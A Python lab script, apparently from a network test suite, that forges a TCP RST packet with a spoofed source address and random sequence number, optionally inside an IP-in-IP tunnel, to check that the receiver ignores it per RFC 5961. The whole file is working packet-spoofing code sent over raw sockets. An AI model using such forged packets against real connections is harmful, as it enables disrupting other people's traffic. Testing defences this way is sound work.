#!/usr/bin/env python3
"""Lab attacker for wlb's forged RST test.

A blind attacker who knows a connection's ports, but not its sequence
numbers, sends one RST in one end's name, from SRC:SPORT to DST:DPORT, with
a random sequence number, so that the other end's TCP (RFC 5961) ignores
it.  With OUTER_SRC and OUTER_DST, the RST travels inside an IP-in-IP tunnel
between them, as packets of configuration C do.

usage: forge-rst.py SRC SPORT DST DPORT [OUTER_SRC OUTER_DST]
Only ever sends to DST, or to OUTER_DST, lab hosts.
"""
import importlib.util
import os
import random
import socket
import struct
import sys

_spec = importlib.util.spec_from_file_location(
    "spoof_synack", os.path.join(os.path.dirname(os.path.abspath(__file__)), "spoof-synack.py"))
_lab = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_lab)


def ip_header(src, dst, proto, payload_len):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, random.getrandbits(16),
                     0x4000, 64, proto, 0, src, dst)
    return ip[:10] + struct.pack("!H", _lab.csum(ip)) + ip[12:]


def rst(src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x04, 0, 0, 0)
    c = _lab.csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    return ip_header(src, dst, 6, len(tcp)) + tcp


def main():
    src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    to = dst
    pkt = rst(socket.inet_aton(src), socket.inet_aton(dst), sport, dport)
    if len(sys.argv) > 6:
        to = sys.argv[6]
        pkt = ip_header(socket.inet_aton(sys.argv[5]), socket.inet_aton(to), 4, len(pkt)) + pkt
    tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    tx.sendto(pkt, (to, 0))
    print("forged a RST from %s:%d to %s:%d via %s" % (src, sport, dst, dport, to), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
